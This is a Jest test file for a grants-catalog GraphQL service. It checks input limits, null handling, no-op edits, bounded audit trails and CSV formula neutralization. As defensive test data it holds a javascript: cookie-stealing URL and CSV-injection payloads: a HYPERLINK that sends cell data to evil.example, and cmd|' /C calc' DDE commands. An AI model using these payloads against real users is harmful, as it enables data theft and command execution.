import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { REPO_ROOT } from '@qsmo/service-kit/config';
import { planImport } from '@qsmo/subgraph-kit/catalog-io';
import { parseCsv } from '@qsmo/catalog/csv';
import { CATALOG_LIMITS } from '@qsmo/subgraph-kit/domain/edits';
import { runCli } from './support/cli';
import { testMongoUri } from './support/db';
import { DOMAINS } from './support/graph';
import { startEditingGraph, type EditingGraph } from './support/editing-graph';

process.env.APOLLO_TELEMETRY_DISABLED = '1';

/**
 * What a careless editor (or a stolen editor token) can do to the catalog
 * through the real graph over HTTP: every hostile edit is refused with a
 * userError naming the field and the limit and writes nothing; what stays
 * (sources, audit records) is bounded however many edits are made; and text
 * a spreadsheet would run as a formula leaves the query command and the
 * catalog export neutralized.
 */
const BOUND_MS = 2_000;
/** Longest refusal message: a huge value is named by an excerpt, never echoed whole. */
const MAX_MESSAGE = 600;

let editing: EditingGraph;
let editor: string;
let analyst: string;

beforeAll(async () => {
  editing = await startEditingGraph();
  editor = await editing.token('grm-editor@hhs.gov', ['editor'], ['GRANTS_MANAGEMENT']);
  analyst = await editing.token('analyst@gsa.gov', ['analyst']);
}, 120_000);

afterAll(async () => {
  await editing?.stop();
});

const SOURCE = { title: 'Grants QSMO marketplace, federal shelf', url: 'https://www.usaspending.gov/grants-qsmo/marketplace' };
const PROVENANCE = { sources: [SOURCE], verification: 'CONFIRMED' };
const PAYLOAD =
  '{ offering { id version name category website launchedOn notes partners { id } sources { title url } } change { id version changedFields } userErrors { field message code } }';
const CREATE = `mutation ($input: CreateGrantsManagementOfferingInput!) { createGrantsManagementOffering(input: $input) ${PAYLOAD} }`;
const UPDATE = `mutation ($input: UpdateGrantsManagementOfferingInput!) { updateGrantsManagementOffering(input: $input) ${PAYLOAD} }`;
const SET_CAPABILITIES = `mutation ($input: SetGrantsManagementOfferingCapabilitiesInput!) { setGrantsManagementOfferingCapabilities(input: $input) ${PAYLOAD} }`;
const ADD_LISTING = `mutation ($input: GrantsManagementCustomerListingInput!) { addGrantsManagementCustomerListing(input: $input) ${PAYLOAD} }`;
const UPDATE_LISTING = `mutation ($input: GrantsManagementCustomerListingInput!) { updateGrantsManagementCustomerListing(input: $input) ${PAYLOAD} }`;
const DETAIL = `query Detail($id: ID!) { grantsManagement { offering(id: $id) {
  id name category shelf website launchedOn verification notes version sources { title url }
  provider { id name } partners { id name } capabilities { code name }
  customerLinks { agency { code name } asOf customerAsStated statedOn { value from to } caveat verification sources { title url } }
} } }`;
const HISTORY =
  'query History($id: ID!) { grantsManagement { offering(id: $id) { version history { id version changedFields before after sources { url } } } } }';

interface Payload {
  offering: any;
  change: any;
  userErrors: { field: string[] | null; message: string; code: string }[];
}

/** Sends a mutation as the Grants editor and returns its payload; a GraphQL error (a crash, a TypeError) fails the test. */
async function mutate(document: string, input: Record<string, unknown>): Promise<Payload> {
  const answer = await editing.gql(document, { input }, editor);
  expect(answer.body.errors).toBeUndefined();
  expect(answer.status).toBe(200);
  expect(answer.ms).toBeLessThan(BOUND_MS);
  return Object.values(answer.body.data as Record<string, Payload>)[0]!;
}

async function history(id: string): Promise<{ version: number; history: any[] }> {
  const answer = await editing.gql(HISTORY, { id }, analyst);
  expect(answer.body.errors).toBeUndefined();
  return answer.body.data.grantsManagement.offering;
}

async function create(id: string, extra: Record<string, unknown> = {}): Promise<Payload> {
  const created = await mutate(CREATE, { id, name: `Portal ${id}`, shelf: 'FEDERAL', providerId: 'hhs', provenance: PROVENANCE, ...extra });
  expect(created.userErrors).toEqual([]);
  return created;
}

describe('hostile edits are refused with a userError naming the field and the limit, and write nothing', () => {
  const id = 'grm-hostile-target';
  const long = (n: number) => 'x'.repeat(n);
  const upd = (fields: Record<string, unknown>) => ({ id, version: 1, provenance: PROVENANCE, ...fields });
  const listing = (fields: Record<string, unknown>) => ({ offeringId: id, version: 1, agencyCode: '075', provenance: PROVENANCE, ...fields });
  const sources = (list: { title: string; url: string }[]) => ({ provenance: { sources: list, verification: 'CONFIRMED' } });

  const CASES: [string, string, Record<string, unknown>, string[], string, RegExp][] = [
    ['a 201-character name', UPDATE, upd({ name: long(201) }), ['input', 'name'], 'INVALID', /1 to 200 characters/],
    ['2001 characters of notes', UPDATE, upd({ notes: long(2_001) }), ['input', 'notes'], 'INVALID', /more than 2000/],
    ['a 201-character category', UPDATE, upd({ category: long(201) }), ['input', 'category'], 'INVALID', /more than 200/],
    ['a javascript: website', UPDATE, upd({ website: 'javascript:alert(document.cookie)' }), ['input', 'website'], 'INVALID', /http\(s\) URL/],
    ['a 1100-character website', UPDATE, upd({ website: `https://example.gov/${long(1_080)}` }), ['input', 'website'], 'INVALID', /more than 1000/],
    ['launchedOn 2021-02-30', UPDATE, upd({ launchedOn: '2021-02-30' }), ['input', 'launchedOn'], 'INVALID', /YYYY-MM-DD, a real calendar day/],
    ['launchedOn 9999-99-99', UPDATE, upd({ launchedOn: '9999-99-99' }), ['input', 'launchedOn'], 'INVALID', /YYYY-MM-DD, a real calendar day/],
    ['launchedOn 2021-13-01', UPDATE, upd({ launchedOn: '2021-13-01' }), ['input', 'launchedOn'], 'INVALID', /YYYY-MM-DD, a real calendar day/],
    ['launchedOn in year 9999', UPDATE, upd({ launchedOn: '9999-12-31' }), ['input', 'launchedOn'], 'INVALID', /between 1900-01-01 and \d{4}-\d{2}-\d{2}/],
    [
      'a 100 000-character source title',
      UPDATE,
      upd(sources([{ title: long(100_000), url: 'https://example.gov/a' }])),
      ['input', 'provenance', 'sources', '0', 'title'],
      'INVALID',
      /more than 300/,
    ],
    [
      'a javascript: source url',
      UPDATE,
      upd(sources([{ title: 'page', url: 'javascript:alert(1)' }])),
      ['input', 'provenance', 'sources', '0', 'url'],
      'SOURCE_REQUIRED',
      /http\(s\) URL/,
    ],
    [
      'a 5000-character source url',
      UPDATE,
      upd(sources([{ title: 'page', url: `https://example.gov/${long(5_000)}` }])),
      ['input', 'provenance', 'sources', '0', 'url'],
      'INVALID',
      /more than 1000/,
    ],
    [
      '11 sources in one change',
      UPDATE,
      upd(sources(Array.from({ length: 11 }, (_, i) => ({ title: `page ${i}`, url: `https://example.gov/${i}` })))),
      ['input', 'provenance', 'sources'],
      'INVALID',
      /at most 10 sources/,
    ],
    ['21 partners', UPDATE, upd({ partnerIds: Array.from({ length: 21 }, (_, i) => `p${i}`) }), ['input', 'partnerIds'], 'INVALID', /at most 20 partners/],
    ['a 10 000-character provider id', UPDATE, upd({ providerId: long(10_000) }), ['input', 'providerId'], 'INVALID', /at most 100 characters/],
    [
      '101 FIBF codes',
      SET_CAPABILITIES,
      { id, version: 1, capabilityCodes: Array.from({ length: 101 }, () => 'GRM.030.010'), provenance: PROVENANCE },
      ['input', 'capabilityCodes'],
      'INVALID',
      /at most 100 FIBF entries/,
    ],
    ['a listing dated 2021-02-30', ADD_LISTING, listing({ asOf: '2021-02-30' }), ['input', 'asOf'], 'INVALID', /not a calendar day/],
    ['a listing dated 10 000 characters', ADD_LISTING, listing({ asOf: long(10_000) }), ['input', 'asOf'], 'INVALID', /is no date/],
    ['a listing dated FY9999', ADD_LISTING, listing({ asOf: 'FY9999' }), ['input', 'asOf'], 'INVALID', /between 1900-01-01 and/],
    ['a 501-character customer as stated', ADD_LISTING, listing({ customerAsStated: long(501) }), ['input', 'customerAsStated'], 'INVALID', /more than 500/],
    [
      'a 10 000-character offering id',
      ADD_LISTING,
      listing({ offeringId: `grm-${long(10_000)}` }),
      ['input', 'offeringId'],
      'INVALID',
      /at most 100 characters/,
    ],
  ];

  beforeAll(async () => {
    await create(id, { category: 'Award Management', notes: 'Kept as it is.' });
  });

  test.each(CASES)('%s', async (_label, document, input, field, code, message) => {
    const payload = await mutate(document, input);
    expect(payload).toMatchObject({ offering: null, change: null });
    expect(payload.userErrors).toEqual([expect.objectContaining({ field, code, message: expect.stringMatching(message) })]);
    expect(payload.userErrors[0]!.message.length).toBeLessThan(MAX_MESSAGE);
  });

  test('after all of them the offering is still at version 1 with one audit record, as created', async () => {
    const read = await history(id);
    expect(read.version).toBe(1);
    expect(read.history.map((c) => c.id)).toEqual([`${id}@1`]);
  });

  test("an impossible day in the audit trail's since is BAD_USER_INPUT, not a day rolled over into March", async () => {
    const answer = await editing.gql('{ grantsManagement { changes(since: "2021-02-30") { totalCount } } }', {}, analyst);
    expect(answer.body.errors?.[0]).toMatchObject({
      message: expect.stringContaining('is not an ISO date or date-time'),
      extensions: { code: 'BAD_USER_INPUT' },
    });
  });
});

describe('null in an input field means "clear" for an optional field and is a userError for a required one, never a crash', () => {
  const id = 'grm-null-fields';

  test('create with every optional field null', async () => {
    const created = await create(id, {
      category: null,
      partnerIds: null,
      capabilityCodes: null,
      website: null,
      launchedOn: null,
      notes: null,
      idempotencyKey: null,
    });
    expect(created.offering).toMatchObject({ id, version: 1, category: null, website: null, launchedOn: null, notes: null, partners: [] });
  });

  test.each(['name', 'shelf', 'providerId', 'partnerIds'])('update with %s: null is INVALID, saying to leave it out', async (field) => {
    const payload = await mutate(UPDATE, { id, version: 1, [field]: null, provenance: PROVENANCE });
    expect(payload.userErrors).toEqual([
      { field: ['input', field], code: 'INVALID', message: `${field} cannot be cleared: leave it out to keep it, or give a new value.` },
    ]);
  });

  test('update with category, website, launchedOn, notes and idempotencyKey null clears the four fields', async () => {
    const set = await mutate(UPDATE, {
      id,
      version: 1,
      category: 'Award Management',
      website: 'https://example.gov',
      launchedOn: '2021-07-29',
      notes: 'A note',
      provenance: PROVENANCE,
    });
    expect(set.userErrors).toEqual([]);
    const cleared = await mutate(UPDATE, {
      id,
      version: 2,
      category: null,
      website: null,
      launchedOn: null,
      notes: null,
      idempotencyKey: null,
      provenance: PROVENANCE,
    });
    expect(cleared).toMatchObject({
      offering: { version: 3, category: null, website: null, launchedOn: null, notes: null },
      change: { changedFields: ['category', 'launchedOn', 'notes', 'website'] },
      userErrors: [],
    });
  });

  test('a listing with asOf, customerAsStated and idempotencyKey null is an undated listing', async () => {
    const added = await mutate(ADD_LISTING, {
      offeringId: id,
      version: 3,
      agencyCode: '075',
      asOf: null,
      customerAsStated: null,
      idempotencyKey: null,
      provenance: PROVENANCE,
    });
    expect(added).toMatchObject({ offering: { version: 4 }, userErrors: [] });
  });
});

describe('a change that changes nothing is refused with UNCHANGED: no version bump, no audit record', () => {
  const id = 'grm-no-op';

  test('update, set capabilities and update listing with the stored values and an already kept source', async () => {
    await create(id, { notes: 'Same', capabilityCodes: ['GRM.030.010'] });
    const listed = await mutate(ADD_LISTING, { offeringId: id, version: 1, agencyCode: '075', asOf: '2021-07', provenance: PROVENANCE });
    expect(listed.userErrors).toEqual([]);
    const noOps: [string, Record<string, unknown>][] = [
      [UPDATE, { id, version: 2, name: `Portal ${id}`, notes: 'Same', shelf: 'FEDERAL', provenance: PROVENANCE }],
      [SET_CAPABILITIES, { id, version: 2, capabilityCodes: ['GRM.030.010'], provenance: PROVENANCE }],
      [UPDATE_LISTING, { offeringId: id, version: 2, agencyCode: '075', asOf: '2021-07', provenance: PROVENANCE }],
    ];
    for (const [document, input] of noOps) {
      const payload = await mutate(document, input);
      expect(payload).toMatchObject({
        offering: null,
        change: null,
        userErrors: [{ field: ['input'], code: 'UNCHANGED', message: expect.stringContaining('stays at version 2') }],
      });
    }
    const read = await history(id);
    expect(read.version).toBe(2);
    expect(read.history).toHaveLength(2);
    // A new source alone is a change: the record gains it.
    const sourced = await mutate(UPDATE, {
      id,
      version: 2,
      notes: 'Same',
      provenance: { sources: [{ title: 'HHS page', url: 'https://www.hhs.gov/grants' }], verification: 'CONFIRMED' },
    });
    expect(sourced).toMatchObject({ change: { version: 3, changedFields: ['sources'] }, userErrors: [] });
  });
});

describe('what an offering and its audit trail hold stays bounded however many edits are made', () => {
  const id = 'grm-flooded';
  const EDITS = 25;
  /** The largest sources the limits allow: a 300-character title and a 1000-character URL. */
  const bigSource = (edit: number, i: number) => ({
    title: `Edit ${edit} source ${i} `.padEnd(CATALOG_LIMITS.sourceTitle, 'T'),
    url: `https://example.gov/${edit}/${i}/`.padEnd(CATALOG_LIMITS.url, 'u'),
  });
  /** The detail query sent anonymously, and its size in bytes. */
  const detail = async () => {
    const answer = await editing.gql(DETAIL, { id });
    expect(answer.body.errors).toBeUndefined();
    return answer;
  };

  test(`${EDITS} edits of ${CATALOG_LIMITS.sourcesPerChange} maximal sources each: the offering keeps the 20 newest, the detail query and the audit trail stay small and fast`, async () => {
    await create(id);
    const first = await detail();
    const editTimes: number[] = [];
    for (let edit = 1; edit <= EDITS; edit++) {
      const sources = Array.from({ length: CATALOG_LIMITS.sourcesPerChange }, (_, i) => bigSource(edit, i));
      const answer = await editing.gql(
        UPDATE,
        { input: { id, version: edit, notes: `Edit ${edit}`, provenance: { sources, verification: 'CONFIRMED' } } },
        editor,
      );
      expect(answer.body.data.updateGrantsManagementOffering.userErrors).toEqual([]);
      editTimes.push(answer.ms);
    }
    // Later edits are no slower than early ones: nothing a write reads or writes grows with the history.
    expect(Math.max(...editTimes)).toBeLessThan(BOUND_MS);

    const last = await detail();
    const offering = last.body.data.grantsManagement.offering;
    expect(offering.version).toBe(EDITS + 1);
    expect(offering.sources).toHaveLength(CATALOG_LIMITS.offeringSources);
    // The most recent are kept, oldest first: the last two edits' ten sources each.
    expect(offering.sources[0].url).toBe(bigSource(EDITS - 1, 0).url);
    expect(offering.sources.at(-1).url).toBe(bigSource(EDITS, CATALOG_LIMITS.sourcesPerChange - 1).url);
    // 20 sources of at most 1300 characters, plus the offering's other fields: well under 32 KB, whatever the number of edits.
    expect(first.bytes).toBeLessThan(2_000);
    expect(last.bytes).toBeLessThan(32 * 1024);
    expect(last.ms).toBeLessThan(BOUND_MS);

    // Every record of the audit trail keeps only what its change made differ; the whole trail reads through the gateway at once.
    const trail = await editing.gql(
      `{ grantsManagement { changes(first: 100) { totalCount edges { node { id changedFields before after sources { url } } } } } }`,
      {},
      analyst,
    );
    expect(trail.status).toBe(200);
    expect(trail.body.errors).toBeUndefined();
    const records = trail.body.data.grantsManagement.changes.edges.map((e: any) => e.node).filter((n: any) => n.id.startsWith(`${id}@`));
    expect(records).toHaveLength(EDITS + 1);
    const lastRecord = records.at(-1);
    expect(lastRecord.changedFields).toEqual(['notes', 'sources']);
    expect(Object.keys(JSON.parse(lastRecord.after)).sort()).toEqual(['id', 'notes', 'sources', 'version']);
    // Of the kept sources, the record shows the ten the change dropped and the ten it added.
    const [before, after] = [JSON.parse(lastRecord.before), JSON.parse(lastRecord.after)];
    expect(before).toMatchObject({ id, version: EDITS, notes: `Edit ${EDITS - 1}` });
    expect(before.sources.map((s: { url: string }) => s.url)).toEqual(Array.from({ length: 10 }, (_, i) => bigSource(EDITS - 2, i).url));
    expect(after.sources.map((s: { url: string }) => s.url)).toEqual(Array.from({ length: 10 }, (_, i) => bigSource(EDITS, i).url));
    // Per record: 10 dropped and 10 added sources of at most 1300 characters, and the change's own 10 URLs: under 40 KB.
    for (const r of records) expect(JSON.stringify(r).length).toBeLessThan(40 * 1024);
    expect(trail.ms).toBeLessThan(5_000);
  }, 60_000);
});

describe('text a spreadsheet would run as a formula leaves the graph neutralized', () => {
  const id = 'grm-formula';
  const NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
  const CATEGORY = "+1+cmd|' /C calc'!A0";
  const NOTES = "-2+3+cmd|' /C calc'!A0";
  const TITLE = "@SUM(1+9)*cmd|' /C calc'!A0";
  const AS_STATED = '\t=1+1';
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'qsmo-formula-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  beforeAll(async () => {
    await create(id, {
      name: NAME,
      category: CATEGORY,
      notes: NOTES,
      provenance: { sources: [{ title: TITLE, url: 'https://example.gov/formula' }], verification: 'UNVERIFIED' },
    });
    const listed = await mutate(ADD_LISTING, { offeringId: id, version: 1, agencyCode: '075', customerAsStated: AS_STATED, provenance: PROVENANCE });
    expect(listed.userErrors).toEqual([]);
  });

  test('npm run query -- --format csv: each formula-leading text cell starts with a quote; the version, a number, does not', async () => {
    const operation = path.join(dir, 'formula.graphql');
    fs.writeFileSync(operation, 'query Formula($id: ID!) { grantsManagement { offering(id: $id) { id name category notes version sources { title } } } }\n');
    const r = await runCli([operation, '--var', `id=${id}`, '--format', 'csv', '--wide', '--endpoint', editing.graph.gatewayUrl]);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const p = 'grantsManagement.offering';
    // The raw line: quoted as RFC 4180 needs (the name holds quotes and commas), the quote inside.
    expect(r.stdout.split('\r\n')[1]).toBe(`${id},"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",'${CATEGORY},'${NOTES},2,'${TITLE}`);
    expect(parseCsv(r.stdout, 'formula.csv')).toEqual([
      {
        [`${p}.id`]: id,
        [`${p}.name`]: `'${NAME}`,
        [`${p}.category`]: `'${CATEGORY}`,
        [`${p}.notes`]: `'${NOTES}`,
        [`${p}.version`]: '2',
        [`${p}.sources.title`]: `'${TITLE}`,
      },
    ]);
  });

  test("catalog:export (the real command on the subgraph's database) neutralizes them too, and the export imports back as no change", async () => {
    const grants = DOMAINS.find((d) => d.definition.serviceName === 'grants-management')!.definition;
    const db = editing.graph.subgraphs['grants-management']!.database.db;
    const out = path.join(dir, 'export');
    const run = await new Promise<{ status: number | null; stderr: string }>((resolve, reject) => {
      const child = spawn(process.execPath, ['--import', 'tsx', 'subgraphs/grants-management/src/catalog-cli.ts', 'export', out], {
        cwd: REPO_ROOT,
        env: { ...process.env, MONGODB_URI: testMongoUri(), GRANTS_MANAGEMENT_MONGODB_DATABASE: db.databaseName },
      });
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (c: string) => {
        stderr += c;
      });
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, stderr }));
    });
    expect(run).toEqual({ status: 0, stderr: '' });
    const offering = parseCsv(fs.readFileSync(path.join(out, 'offerings.csv'), 'utf8'), 'offerings.csv').find((r) => r.id === id)!;
    expect(offering).toMatchObject({ name: `'${NAME}`, category: `'${CATEGORY}`, notes: `'${NOTES}` });
    const listing = parseCsv(fs.readFileSync(path.join(out, 'offering_customers.csv'), 'utf8'), 'offering_customers.csv').find((r) => r.offering_id === id)!;
    expect(listing.customer_as_stated).toBe(`'${AS_STATED}`);
    // No cell of either file starts a formula.
    for (const file of ['offerings.csv', 'offering_customers.csv']) {
      for (const row of parseCsv(fs.readFileSync(path.join(out, file), 'utf8'), file)) {
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    // The import reads the quote back off: exported and imported, nothing changes.
    const plan = await planImport(db, grants.entry, out);
    expect(plan.problems).toEqual([]);
    expect(plan.steps).toEqual([]);
  }, 30_000);
});
